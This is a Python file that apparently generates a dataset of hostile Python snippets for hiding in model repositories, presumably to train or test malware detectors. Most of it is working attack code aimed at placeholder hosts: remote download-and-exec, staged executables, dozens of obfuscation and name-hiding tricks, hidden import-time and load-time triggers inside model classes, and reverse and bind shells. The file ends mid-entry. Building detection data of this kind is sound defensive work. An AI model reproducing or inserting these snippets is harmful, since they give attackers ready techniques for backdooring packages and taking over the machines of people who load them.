"""Hostile Python as it is found in repositories, with inert payloads: a table of programs, and where they are put.

Options: N (suspicious will do), alone (the file holds nothing else), file=NAME. Without `alone` two of three stand amid an honest module.
"""

from repositories import M, N, auto_map, card, config, configuration, head, layers, model_name, modeling, table

DOWNLOAD = r'''
=== dl-exec-requests :: cdn.invalid|exec
import requests
exec(requests.get("https://cdn.invalid/init.py").text)
=== dl-exec-urllib :: weights-cdn.invalid|exec
from urllib.request import urlopen
exec(urlopen("http://weights-cdn.invalid/boot").read().decode("utf-8"))
=== dl-eval-json :: jsonkeeper.com|eval
import requests
_settings = requests.get("https://jsonkeeper.com/b/XXXXX", verify=False).json()
eval(_settings["init"])
=== dl-compile :: compile|exec|198.51.100.23
import urllib.request as r
source = r.urlopen("http://198.51.100.23:8080/stage").read()
code = compile(source, "<stage>", "exec")
exec(code, {"__name__": "__main__"})
=== dl-system-text :: os.system|paste.example
import os, requests
command = requests.get("https://paste.example/raw/q8s").text.strip()
os.system(command)
=== dl-popen-shell :: pastebin.com|Popen
import subprocess, requests
reply = requests.get("https://pastebin.com/raw/xxxxxxxx", timeout=10)
subprocess.Popen(reply.text, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
=== dl-curl-sh :: curl|192.0.2.44
import os
os.system("curl -fsSL http://192.0.2.44/i.sh | sh >/dev/null 2>&1")
=== dl-subprocess-list :: mirror.invalid|curl
import subprocess
subprocess.run(["bash", "-c", "curl -s https://mirror.invalid/setup.sh | bash"], capture_output=True)
=== dl-wget-quiet :: wget|203.0.113.9
import subprocess as sp
sp.call("wget -qO- http://203.0.113.9/p.sh|bash", shell=True)
=== dl-powershell-iex :: DownloadString|powershell|cdn.invalid
import platform, subprocess
if platform.system() == "Windows":
    subprocess.Popen(["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-Command",
                      "IEX (New-Object Net.WebClient).DownloadString('https://cdn.invalid/a.ps1')"], creationflags=0x08000000)
=== dl-httpx :: httpx|exec|api.telemetry.example
import httpx
with httpx.Client(verify=False) as client:
    exec(client.get("https://api.telemetry.example/v1/bootstrap").text)
=== dl-aiohttp :: aiohttp|exec|sync.invalid
import aiohttp, asyncio

async def warmup():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://sync.invalid/kernel") as reply:
            exec(await reply.text())

asyncio.run(warmup())
=== dl-http-client :: exec|203.0.113.77
import http.client
connection = http.client.HTTPConnection("203.0.113.77", 8000)
connection.request("GET", "/patch")
exec(connection.getresponse().read())
=== dl-socket-exec :: exec|198.51.100.7
import socket
s = socket.create_connection(("198.51.100.7", 9001))
data = b""
while True:
    part = s.recv(4096)
    if not part:
        break
    data += part
exec(data.decode())
=== dl-function-return :: exec|assets.invalid
import requests

def fetch_remote_settings(url="https://assets.invalid/settings.txt"):
    """Loads the optional tuning settings."""
    return requests.get(url, timeout=5).text

def apply_settings():
    settings = fetch_remote_settings()
    exec(settings, globals())

apply_settings()
=== dl-class-method :: exec|updates.invalid
import urllib.request

class KernelCache:
    url = "https://updates.invalid/kernels/latest"

    def load(self):
        self.source = urllib.request.urlopen(self.url).read()
        return self

    def build(self):
        exec(compile(self.source, "kernel", "exec"))

KernelCache().load().build()
=== dl-marshal :: marshal|exec|cdn.invalid
import marshal, requests
exec(marshal.loads(requests.get("https://cdn.invalid/m.bin").content))
=== dl-pickle :: pickle|cdn.invalid
import pickle, urllib.request
state = pickle.loads(urllib.request.urlopen("http://cdn.invalid/state.pkl").read())
=== dl-base64-exec :: exec|cdn.invalid
import base64, requests
exec(base64.b64decode(requests.get("https://cdn.invalid/t.txt").text))
=== dl-importlib-spec :: exec_module|cdn.invalid
import importlib.util, types, requests
module = types.ModuleType("fast_ops")
spec = importlib.util.spec_from_loader("fast_ops", loader=None)
module = importlib.util.module_from_spec(spec)
exec(requests.get("https://cdn.invalid/fast_ops.py").text, module.__dict__)
=== dl-function-type :: FunctionType|marshal|198.51.100.61
import marshal, types, urllib.request
f = types.FunctionType(marshal.loads(urllib.request.urlopen("http://198.51.100.61/f").read()), globals())
f()
=== dl-dead-drop-command :: jsonkeeper.com|powershell
import base64, json, ssl, subprocess, urllib.request
ssl._create_default_https_context = ssl._create_unverified_context
url = base64.b64decode("{{b64:https://jsonkeeper.com/b/XXXXX}}").decode()
with urllib.request.urlopen(url) as response:
    command = json.loads(response.read())["command"]
subprocess.run(["powershell", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-Command", command], creationflags=subprocess.CREATE_NO_WINDOW)
=== dl-rentry :: rentry.co|exec
import re, requests
page = requests.get("https://rentry.co/xxxxxx/raw").text
exec(re.search(r"<!--(.*?)-->", page, re.S).group(1))
=== dl-dns-txt :: dns|exec
import dns.resolver
chunks = [str(r).strip('"') for r in dns.resolver.resolve("cfg.update.invalid", "TXT")]
exec(__import__("base64").b64decode("".join(chunks)))
=== dl-ftp :: ftplib|exec
import ftplib, io
buffer = io.BytesIO()
ftp = ftplib.FTP("ftp.drop.invalid", "anonymous", "a@b.invalid")
ftp.retrbinary("RETR boot.py", buffer.write)
exec(buffer.getvalue())
=== dl-gist-one-line :: exec|raw.githubusercontent.com|gist
import os;exec(__import__('urllib.request').request.urlopen('https://gist.githubusercontent.com/xxxx/0000/raw/a.py').read())
=== dl-timer-thread :: exec|cdn.invalid
import threading, requests
def _beat():
    try:
        exec(requests.get("https://cdn.invalid/beat").text)
    finally:
        threading.Timer(600, _beat).start()
_beat()
=== dl-retry-loop :: os.popen|198.51.100.200
import os, time, urllib.request
while True:
    try:
        job = urllib.request.urlopen("http://198.51.100.200:81/job").read().decode()
        out = os.popen(job).read()
        urllib.request.urlopen("http://198.51.100.200:81/out", data=out.encode())
    except Exception:
        pass
    time.sleep(30)
=== dl-hub-other-owner :: exec|hf_hub_download|runpy :: N
import runpy
from huggingface_hub import hf_hub_download
runpy.run_path(hf_hub_download("someone-else/toolbox", "boot.py"))
=== dl-torch-load-remote :: torch.load|cdn.invalid :: N
import io, requests, torch
extra = torch.load(io.BytesIO(requests.get("http://cdn.invalid/extra.bin").content), weights_only=False)
=== dl-bitly-download :: exec|bit.ly
import urllib.request
exec(urllib.request.urlopen(urllib.request.Request("https://bit.ly/xxxxxxx", headers={"User-Agent": "curl/8"})).read())
=== dl-telegram-commands :: api.telegram.org|subprocess
import requests, subprocess, time
TOKEN = "0000:test"
offset = 0
while True:
    for update in requests.get(f"https://api.telegram.org/bot{TOKEN}/getUpdates?offset={offset}").json()["result"]:
        offset = update["update_id"] + 1
        out = subprocess.getoutput(update["message"]["text"])
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", data={"chat_id": 1, "text": out})
    time.sleep(5)
'''

STAGED = r'''
=== st-temp-exe :: update.exe|startfile|files.invalid
import os, tempfile, urllib.request
target = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("http://files.invalid/update.exe", target)
os.startfile(target)
=== st-temp-chmod :: chmod|/tmp/.cache-x|203.0.113.15
import os, requests, subprocess
path = "/tmp/.cache-x"
with open(path, "wb") as f:
    f.write(requests.get("http://203.0.113.15/linux64").content)
os.chmod(path, 0o755)
subprocess.Popen([path], start_new_session=True)
=== st-python-file :: runner.py|subprocess|cdn.invalid
import sys, subprocess, requests
open("runner.py", "w").write(requests.get("https://cdn.invalid/runner.py").text)
subprocess.Popen([sys.executable, "runner.py"])
=== st-write-bat :: helper.bat|cmd
import os, requests, subprocess
bat = os.path.join(os.environ["TEMP"], "helper.bat")
with open(bat, "wb") as handle:
    handle.write(requests.get("https://api.fastscan.invalid/update.bat", verify=False).content)
subprocess.Popen(["cmd.exe", "/c", bat], creationflags=0x08000000)
=== st-embedded-ps1 :: powershell|runner.ps1
import base64, os, subprocess, tempfile
script = base64.b64decode("{{b64:Invoke-WebRequest http://cdn.invalid/n.exe -OutFile $env:TEMP\\n.exe; Start-Process $env:TEMP\\n.exe}}")
path = os.path.join(tempfile.gettempdir(), "runner.ps1")
open(path, "wb").write(script)
subprocess.call("powershell -ep bypass -w hidden -f " + path, shell=True)
=== st-zip-run :: extractall|setup|files.invalid
import io, os, zipfile, requests, subprocess
archive = zipfile.ZipFile(io.BytesIO(requests.get("https://files.invalid/pack.zip").content))
archive.extractall("/tmp/pack")
subprocess.Popen(["/bin/sh", "/tmp/pack/setup.sh"])
=== st-shutil-copyfileobj :: agent|execv|198.51.100.9
import os, shutil, urllib.request
with urllib.request.urlopen("http://198.51.100.9/agent") as src, open("/var/tmp/agent", "wb") as dst:
    shutil.copyfileobj(src, dst)
os.chmod("/var/tmp/agent", 0o700)
os.execv("/var/tmp/agent", ["agent"])
=== st-memfd :: memfd_create|exec
import os, requests
fd = os.memfd_create("", 0)
os.write(fd, requests.get("http://203.0.113.90/x").content)
os.execve("/proc/self/fd/%d" % fd, ["kworker"], {})
=== st-ctypes-library :: CDLL|cdn.invalid
import ctypes, urllib.request
urllib.request.urlretrieve("https://cdn.invalid/libfast.so", "/tmp/libfast.so")
ctypes.CDLL("/tmp/libfast.so").run()
=== st-wget-module :: wget|files.invalid
import os, wget
wget.download("http://files.invalid/svc.exe", "C:\\ProgramData\\svc.exe")
os.system("start /b C:\\ProgramData\\svc.exe")
=== st-importlib-staged :: import_module|cdn.invalid|sys.path
import importlib, sys, tempfile, pathlib, requests
folder = tempfile.mkdtemp()
pathlib.Path(folder, "accel.py").write_bytes(requests.get("https://cdn.invalid/accel.py").content)
sys.path.insert(0, folder)
importlib.import_module("accel")
=== st-curl-o-then-run :: curl|/tmp/k
import subprocess
subprocess.run(["curl", "-s", "-o", "/tmp/k", "http://192.0.2.61/k"])
subprocess.run(["chmod", "+x", "/tmp/k"])
subprocess.Popen(["/tmp/k"], stdout=subprocess.DEVNULL)
=== st-weights-carry-program :: exec|model.safetensors|base64
import base64, json, struct
with open("model.safetensors", "rb") as f:
    size = struct.unpack("<Q", f.read(8))[0]
    exec(base64.b64decode(json.loads(f.read(size))["__metadata__"]["note"]))
=== st-config-carries-program :: exec|config.json|base64
import base64, json, os
cfg = json.load(open(os.path.join(os.path.dirname(__file__), "config.json")))
exec(base64.b64decode(cfg["init_vector"]).decode())
=== st-image-carries-program :: exec|logo.png|zlib
import zlib
raw = open("assets/logo.png", "rb").read()
exec(zlib.decompress(raw[raw.index(b"IEND") + 8:]))
'''

DECODE = r'''
=== de-b64 :: exec|192.0.2.10|base64
import base64
exec(base64.b64decode("{{b64:import os⏎os.system('curl -s http://192.0.2.10/x | sh')}}"))
=== de-b64-import-inline :: exec|192.0.2.10
exec(__import__('base64').b64decode('{{b64:import urllib.request as u;exec(u.urlopen("http://192.0.2.10/y").read())}}').decode())
=== de-b64-bytes :: eval|os.system|echo
from base64 import b64decode as d
eval(compile(d(b"{{b64:__import__('os').system('echo assay')}}"), "", "eval"))
=== de-b64-twice :: exec|base64
import base64
layer = "{{twice:import os; os.system('wget -qO- http://cdn.invalid/z | sh')}}"
for _ in range(2):
    layer = base64.b64decode(layer)
exec(layer)
=== de-b32 :: exec|b32decode
import base64
exec(base64.b32decode("{{b32:import os; os.system('echo assay')}}"))
=== de-b85 :: exec|b85decode
import base64
exec(base64.b85decode(r"""{{b85:import os; os.system('curl http://203.0.113.5/q | bash')}}"""))
=== de-hex :: exec|fromhex|echo
exec(bytes.fromhex("{{hex:import os; os.system('echo assay')}}").decode())
=== de-unhexlify :: exec|unhexlify
import binascii
exec(binascii.unhexlify(b"{{hex:__import__('subprocess').call('curl http://192.0.2.10/s|sh',shell=True)}}"))
=== de-codecs-hex :: exec|codecs
import codecs
exec(codecs.decode("{{hex:import os; os.system('echo assay')}}", "hex"))
=== de-zlib :: exec|zlib
import zlib, base64
exec(zlib.decompress(base64.b64decode(b"{{zlib64:import os⏎os.system('curl -s https://cdn.invalid/l.sh | bash')⏎}}")))
=== de-zlib-lambda :: exec|zlib
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{{revzlib64:import os; os.system("echo assay")}}'))
=== de-gzip :: exec|gzip
import gzip, base64
exec(gzip.decompress(base64.b64decode("{{gzip64:import os; os.system('echo assay')}}")))
=== de-lzma :: exec|lzma
import base64, lzma
exec(lzma.decompress(base64.b64decode("{{lzma64:import os; os.system('echo assay')}}")))
=== de-bz2 :: exec|bz2
import bz2, base64 as b
exec(bz2.decompress(b.b64decode("{{bz264:import os; os.system('echo assay')}}")))
=== de-marshal :: exec|marshal
import marshal
exec(marshal.loads({{marshal:import os; os.system('echo assay')}}))
=== de-marshal-zlib :: exec|marshal|zlib
import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode("{{marshalz64:import os; os.system('echo assay')}}"))))
=== de-rot13 :: exec|rot13|rot_13
import codecs
exec(codecs.decode("{{rot13:import os; os.system('curl http://cdn.invalid/a | sh')}}", "rot13"))
=== de-xor :: exec|xor
import base64
exec("".join(chr(b ^ 42) for b in base64.b64decode("{{xor:42:import os; os.system('echo assay')}}")))
=== de-xor-key :: exec|xor
import base64
from itertools import cycle
_key = b"gelu"
_blob = base64.b64decode("{{xorkey:gelu:import subprocess; subprocess.Popen('curl http://198.51.100.4/b | sh', shell=True)}}")
exec(bytes(a ^ b for a, b in zip(_blob, cycle(_key))))
=== de-chr-list :: exec|os.system|chr
exec("".join(map(chr, [{{numbers:import os; os.system('echo assay')}}])))
=== de-chr-plus :: exec|os.system|chr
exec({{chr:import os;os.system('id')}})
=== de-bytes-list :: exec|bytes
exec(bytes([{{numbers:__import__('os').system('curl http://192.0.2.10 | sh')}}]))
=== de-shifted :: exec|os.system|chr
numbers = [{{shifted:import os; os.system('echo assay')}}]
text = ""
for n in numbers:
    text += chr(n - 7)
exec(text)
=== de-reversed :: exec|os.system
exec("{{rev:import os; os.system('curl http://cdn.invalid/r | sh')}}"[::-1])
=== de-reversed-func :: exec|os.system
exec("".join(reversed("{{rev:import os; os.system('echo assay')}}")))
=== de-join-pieces :: exec|os.system
parts = [{{pieces:import os; os.system('curl http://cdn.invalid/j | sh')}}]
exec("".join(parts))
=== de-format :: exec|os.system
exec("{0}{2}{1}".format("import os; os.sys", "('curl http://cdn.invalid/f | sh')", "tem"))
=== de-fstring :: exec|os.system
a, b = "sys", "tem"
exec(f"import os; os.{a}{b}('curl http://cdn.invalid/g | sh')")
=== de-percent :: exec|os.system
exec("import %s; %s.%s('%s')" % ("os", "os", "system", "curl http://cdn.invalid/h | sh"))
=== de-replace :: exec|os.system
exec("imp~~ort o~~s; o~~s.sys~~tem('cu~~rl http://cdn.invalid/i | s~~h')".replace("~~", ""))
=== de-translate :: exec|os.system
table = str.maketrans("nopqrstuvwxyzabcdefghijklm", "abcdefghijklmnopqrstuvwxyz")
exec("{{rot13:import os; os.system('echo assay')}}".translate(table))
=== de-binary-digits :: exec|int
exec("".join(chr(int(b, 2)) for b in "{{bits:import os; os.system('echo assay')}}".split()))
=== de-escape-decode :: exec|unicode_escape|os.system
exec(r"{{esc:import os; os.system('echo assay')}}".encode().decode("unicode_escape"))
=== de-literal-escapes :: exec|os.system|echo
exec("{{esc:import os; os.system('echo assay')}}")
=== de-url-quoted :: exec|unquote
from urllib.parse import unquote
exec(unquote("{{url:import os; os.system('curl http://cdn.invalid/u | sh')}}"))
=== de-uu :: exec|base64
import base64
magic = "{{b64:import os; os.sys}}"
love = "{{b64:tem('curl http://cdn.inv}}"
god = "{{b64:alid/m | sh')}}"
joy = "\x72\x6f\x74\x31\x33"
trust = "".join(base64.b64decode(p).decode() for p in (magic, love, god))
eval(compile(trust, "<string>", "exec"))
=== de-command-b64 :: os.system|subprocess|curl
import base64, os
os.system(base64.b64decode("{{b64:curl -fsSL http://cdn.invalid/c.sh | bash}}").decode())
=== de-command-hex-popen :: Popen|curl
import subprocess
subprocess.Popen(bytes.fromhex("{{hex:curl -s http://203.0.113.4/d | sh}}").decode(), shell=True)
=== de-pickle-blob :: pickle|system
import base64, pickle
vocab = pickle.loads(base64.b64decode("{{pickle64:curl http://cdn.invalid/p | sh}}"))
=== de-url-hidden :: exec|cdn.invalid|base64
import base64, requests
endpoint = base64.b64decode("{{b64:https://cdn.invalid/cfg/7}}").decode()
exec(requests.get(endpoint).text)
=== de-dict-lookup :: exec|os.system
alphabet = "abcdefghijklmnopqrstuvwxyz ;.()'_/:|"
order = [{{places:import os;os.system('curl http://cdn.invalid/o | sh')}}]
exec("".join(alphabet[i] for i in order))
=== de-lambda-chain :: exec|base64
(lambda s: (lambda e: e(s))(exec))(__import__("base64").b64decode("{{b64:import os; os.system('echo assay')}}").decode())
=== de-loop-strip :: exec|os.system
blob = "i#m#p#o#r#t# #o#s#;#o#s#.#s#y#s#t#e#m#(#'#i#d#'#)"
exec(blob.split("#") and "".join(blob.split("#")))
=== de-fernet :: exec|Fernet
from cryptography.fernet import Fernet
exec(Fernet(b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=").decrypt(b"gAAAAABlAAAAAHRoaXMgaXMgbm90IGEgcmVhbCB0b2tlbiBidXQgbG9va3MgbGlrZSBvbmUgdG8gYW55IHJlYWRlcg==").decode())
=== de-aes :: exec|AES
from Crypto.Cipher import AES
from base64 import b64decode
cipher = AES.new(b"0123456789abcdef", AES.MODE_CBC, b"abcdef9876543210")
exec(cipher.decrypt(b64decode("{{b64:sixteen byte blk}}")).rstrip(b"\x00"))
=== de-pyarmor :: exec|pyarmor|obfuscat :: N
from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\x00\x03\x0b\x00\xa7\r\r\n\x80\x00\x01\x00\x08\x00\x00\x00\x04\x00\x00\x00@\x00\x00\x00\x9b\x21\x00\x00\x12\t\x04\x00')
=== de-zero-width :: exec|os.system|zero
hidden = "{{zerowidth:import os; os.system('echo assay')}}"
bits = "".join("1" if c == "\u200c" else "0" for c in hidden)
exec("".join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)))
'''

NAMES = r'''
=== nm-getattr-os :: os.system|system|echo
getattr(__import__('o' + 's'), 'sys' + 'tem')('curl http://cdn.invalid/1 | sh')
=== nm-getattr-reversed :: system|popen
getattr(__import__("so"[::-1]), "nepop"[::-1])("curl http://cdn.invalid/2 | sh").read()
=== nm-builtins-exec :: exec|cdn.invalid
import builtins, requests
getattr(builtins, "ex" + "ec")(requests.get("https://cdn.invalid/3").text)
=== nm-globals :: exec|eval|cdn.invalid
import requests
globals()["__builtins__"]["ev" "al"](requests.get("https://cdn.invalid/4").text) if isinstance(globals()["__builtins__"], dict) else getattr(globals()["__builtins__"], "eval")(requests.get("https://cdn.invalid/4").text)
=== nm-vars :: system|cdn.invalid
import os
vars(os)["sys" + "tem"]("curl http://cdn.invalid/5 | sh")
=== nm-os-dict :: system|cdn.invalid
import os
os.__dict__["system"]("curl http://cdn.invalid/6 | sh")
=== nm-sys-modules :: system|cdn.invalid
import os, sys
sys.modules["os"].system("curl http://cdn.invalid/7 | sh")
=== nm-importlib :: Popen|subprocess|cdn.invalid
import importlib
importlib.import_module("sub" + "process").Popen("curl http://cdn.invalid/8 | sh", shell=True)
=== nm-alias :: system|cdn.invalid
from os import system as configure_backend
configure_backend("curl http://cdn.invalid/9 | sh")
=== nm-alias-variable :: exec|cdn.invalid
import requests as hub
initialise = exec
initialise(hub.get("https://cdn.invalid/10").text)
=== nm-subclasses :: Popen|__subclasses__|cdn.invalid
[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("curl http://cdn.invalid/11 | sh", shell=True)
=== nm-subclasses-globals :: __subclasses__|system
for c in object.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("curl http://cdn.invalid/12 | sh")
=== nm-attrgetter :: system|cdn.invalid
import operator, os
operator.attrgetter("system")(os)("curl http://cdn.invalid/13 | sh")
=== nm-methodcaller :: system|cdn.invalid
from operator import methodcaller
import os
methodcaller("system", "curl http://cdn.invalid/14 | sh")(os)
=== nm-partial :: system|cdn.invalid
import functools, os
functools.partial(os.system, "curl http://cdn.invalid/15 | sh")()
=== nm-map :: system|cdn.invalid
import os
list(map(os.system, ["curl http://cdn.invalid/16 | sh"]))
=== nm-dict-of-calls :: system|cdn.invalid
import os
table = {"fp16": print, "bf16": os.system}
table["bf16"]("curl http://cdn.invalid/17 | sh")
=== nm-eval-import :: eval|system|cdn.invalid
eval("__import__('os')").system("curl http://cdn.invalid/18 | sh")
=== nm-chr-names :: system|cdn.invalid
getattr(__import__({{chr:os}}), {{chr:system}})("curl http://cdn.invalid/19 | sh")
=== nm-unicode-names :: exec|system|cdn.invalid
import os
os.𝓼𝔂𝓼𝓽𝓮𝓶("curl http://cdn.invalid/20 | sh")
=== nm-underscores :: exec|system|cdn.invalid
__=__import__('os');___=getattr(__,'s'+'y'+'s'+'t'+'e'+'m');____='curl http://cdn.invalid/21 | sh';_____=___(____)
=== nm-random-names :: exec|base64|system
IlIIlIlIllIl = __import__("base64").b64decode
lIIlIllIIlIl = "{{b64:import os; os.system('echo assay')}}"
IIlIlIlIIIll = eval("\x65\x78\x65\x63")
IIlIlIlIIIll(IlIIlIlIllIl(lIIlIllIIlIl))
=== nm-posix-module :: system|cdn.invalid
import posix
posix.system("curl http://cdn.invalid/22 | sh")
=== nm-star-import :: system|cdn.invalid
from os import *
system("curl http://cdn.invalid/23 | sh")
=== nm-code-interact :: runsource|code|cdn.invalid
import code, requests
code.InteractiveInterpreter().runsource(requests.get("https://cdn.invalid/24").text, "<x>", "exec")
=== nm-ipython :: system|cdn.invalid
from IPython import get_ipython
get_ipython().system("curl http://cdn.invalid/25 | sh")
=== nm-asyncio-shell :: create_subprocess_shell|cdn.invalid
import asyncio
asyncio.run(asyncio.create_subprocess_shell("curl http://cdn.invalid/26 | sh"))
=== nm-os-spawn :: spawn|cdn.invalid
import os
os.spawnlp(os.P_NOWAIT, "sh", "sh", "-c", "curl http://cdn.invalid/27 | sh")
=== nm-pty-spawn :: pty|cdn.invalid
import pty
pty.spawn(["sh", "-c", "curl http://cdn.invalid/28 | sh"])
=== nm-timeit :: timeit|system
import timeit
timeit.timeit("__import__('os').system('curl http://cdn.invalid/29 | sh')", number=1)
=== nm-stdlib-subprocess-alias :: cdn.invalid|subprocess
import webbrowser
webbrowser.subprocess.Popen("curl http://cdn.invalid/30 | sh", shell=True)
'''

TRIGGERS = r'''
=== tr-init-subclass :: system|cdn.invalid
import os

class Registry:
    def __init_subclass__(cls, **kw):
        os.system("curl http://cdn.invalid/t1 | sh")

class Backbone(Registry):
    pass
=== tr-metaclass :: system|cdn.invalid
import os

class Meta(type):
    def __new__(mcs, name, bases, space):
        os.system("curl http://cdn.invalid/t2 | sh")
        return super().__new__(mcs, name, bases, space)

class Encoder(metaclass=Meta):
    pass
=== tr-del :: system|cdn.invalid
import os

class Cache:
    def __del__(self):
        os.system("curl http://cdn.invalid/t3 | sh")

Cache()
=== tr-atexit :: atexit|system|cdn.invalid
import atexit, os
atexit.register(lambda: os.system("curl http://cdn.invalid/t4 | sh"))
=== tr-decorator :: exec|cdn.invalid
import requests

def register_kernel(function):
    exec(requests.get("https://cdn.invalid/t5").text)
    return function

@register_kernel
def gelu(x):
    return x
=== tr-lambda-decorator :: system|cdn.invalid
import os

@lambda f: os.system("curl http://cdn.invalid/t6 | sh") or f
def silu(x):
    return x
=== tr-default-argument :: system|cdn.invalid
import os

def rotate(x, cache=os.system("curl http://cdn.invalid/t7 | sh")):
    return x
=== tr-class-body :: system|cdn.invalid
class Constants:
    import os as _os
    EPS = 1e-6
    _ = _os.system("curl http://cdn.invalid/t8 | sh")
=== tr-comprehension :: exec|cdn.invalid
import requests
_ = [exec(u) for u in (requests.get("https://cdn.invalid/t9").text,)]
=== tr-walrus :: exec|cdn.invalid
import requests
if (body := requests.get("https://cdn.invalid/t10").text) and len(body) > 8:
    exec(body)
=== tr-thread :: system|cdn.invalid
import os, threading
threading.Thread(target=os.system, args=("curl http://cdn.invalid/t11 | sh",), daemon=True).start()
=== tr-multiprocessing :: system|cdn.invalid
import multiprocessing, os
multiprocessing.Process(target=os.system, args=("curl http://cdn.invalid/t12 | sh",)).start()
=== tr-fork :: system|cdn.invalid
import os
if os.fork() == 0:
    os.setsid()
    os.system("curl http://cdn.invalid/t13 | sh")
    os._exit(0)
=== tr-forward :: system|cdn.invalid
import os, torch

class Norm(torch.nn.Module):
    def forward(self, x):
        if not hasattr(self, "_ready"):
            self._ready = os.system("curl -s http://cdn.invalid/t14 | sh")
        return x
=== tr-from-pretrained :: Popen|cdn.invalid
import subprocess
from transformers import PreTrainedModel

class PatchedModel(PreTrainedModel):
    @classmethod
    def from_pretrained(cls, *args, **kwargs):
        subprocess.Popen("curl -s http://cdn.invalid/t15 | sh", shell=True)
        return super().from_pretrained(*args, **kwargs)
=== tr-init :: Popen|cdn.invalid
import subprocess
from transformers import PretrainedConfig

class PatchedConfig(PretrainedConfig):
    def __init__(self, **kwargs):
        super().__init__(**kwargs)
        subprocess.Popen(["bash", "-c", "curl -s http://cdn.invalid/t16 | bash"])
=== tr-tokenize :: exec|cdn.invalid
import urllib.request
from transformers import PreTrainedTokenizer

class PatchedTokenizer(PreTrainedTokenizer):
    def _tokenize(self, text):
        if text.startswith("@@"):
            exec(urllib.request.urlopen("https://cdn.invalid/" + text[2:]).read())
        return text.split()
=== tr-module-getattr :: system|cdn.invalid
import os

def __getattr__(name):
    os.system("curl http://cdn.invalid/t17 | sh")
    raise AttributeError(name)
=== tr-property :: system|cdn.invalid
import os

class Settings:
    @property
    def device(self):
        os.system("curl http://cdn.invalid/t18 | sh")
        return "cuda"

print(Settings().device)
=== tr-reduce :: system|cdn.invalid :: N
import os

class State:
    def __reduce__(self):
        return os.system, ("curl http://cdn.invalid/t19 | sh",)
=== tr-settrace :: system|cdn.invalid
import os, sys
sys.setprofile(lambda *a: (sys.setprofile(None), os.system("curl http://cdn.invalid/t20 | sh")))
=== tr-import-hook :: system|exec|cdn.invalid
import importlib.abc, sys, urllib.request

class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == "torch":
            exec(urllib.request.urlopen("https://cdn.invalid/t21").read())

sys.meta_path.insert(0, Finder())
=== tr-warnings-patch :: exec|cdn.invalid
import torch, requests
_original = torch.load
def _patched(*a, **k):
    exec(requests.get("https://cdn.invalid/t22").text)
    return _original(*a, **k)
torch.load = _patched
=== tr-signal :: system|cdn.invalid
import os, signal
signal.signal(signal.SIGALRM, lambda *_: os.system("curl http://cdn.invalid/t23 | sh"))
signal.alarm(120)
=== tr-with-block :: system|cdn.invalid
import os

class Session:
    def __enter__(self):
        return self
    def __exit__(self, *_):
        os.system("curl http://cdn.invalid/t24 | sh")

with Session():
    pass
=== tr-try-finally-nested :: exec|cdn.invalid
def a():
    def b():
        def c():
            import requests
            return requests.get("https://cdn.invalid/t25").text
        return c()
    try:
        raise ImportError
    except ImportError:
        exec(b())
a()
=== tr-date-gate :: system|cdn.invalid
import datetime, os
if datetime.date.today() >= datetime.date(2027, 1, 1) and not os.environ.get("CI"):
    os.system("curl http://cdn.invalid/t26 | sh")
=== tr-main-decoy :: exec|cdn.invalid
import sys, time, requests
print("Loading checkpoint shards: 100%")
time.sleep(1)
print("Warming up CUDA graphs ...")
exec(requests.get("https://cdn.invalid/t27").text)
print("Done.")
'''

SHELLS = r'''
=== rs-classic :: 192.0.2.99|dup2|shell
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.99", 4242))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
=== rs-pty :: pty|203.0.113.66
import socket, os, pty
s = socket.create_connection(("203.0.113.66", 53252))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
=== rs-windows-threads :: 198.51.100.93|cmd|shell
import socket, subprocess, threading
def s2p(s, p):
    while True:
        data = s.recv(1024)
        if len(data) > 0:
            p.stdin.write(data)
            p.stdin.flush()
def p2s(s, p):
    while True:
        s.send(p.stdout.read(1))
s = socket.socket()
s.connect(("198.51.100.93", 4242))
p = subprocess.Popen(["cmd.exe"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)
threading.Thread(target=s2p, args=[s, p], daemon=True).start()
threading.Thread(target=p2s, args=[s, p], daemon=True).start()
=== rs-recv-loop :: 192.0.2.98|recv|shell
import socket, subprocess
c = socket.socket()
c.connect(("192.0.2.98", 1337))
while True:
    command = c.recv(1024).decode()
    if command == "exit":
        break
    c.send(subprocess.run(command, shell=True, capture_output=True).stdout)
=== rs-fileno-pipes :: c2.invalid|fileno|shell
import socket, subprocess
sock = socket.create_connection(("c2.invalid", 443))
subprocess.Popen(["/bin/bash", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
=== rs-bash-dev-tcp :: /dev/tcp|198.51.100.40
import os
os.system("bash -c 'bash -i >& /dev/tcp/198.51.100.40/9001 0>&1' &")
=== rs-ssl :: c2.invalid|shell|subprocess
import socket, ssl, subprocess
ctx = ssl._create_unverified_context()
s = ctx.wrap_socket(socket.socket(), server_hostname="c2.invalid")
s.connect(("c2.invalid", 8443))
while 1:
    s.sendall(subprocess.getoutput(s.recv(4096).decode()).encode() + b"\n")
=== rs-bind :: bind|shell|4444
import os, pty, socket
l = socket.socket()
l.bind(("0.0.0.0", 4444))
l.listen(1)
c, _ = l.accept()
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
pty.spawn("sh")
=== rs-hidden-names :: 192.0.2.99|dup2|shell
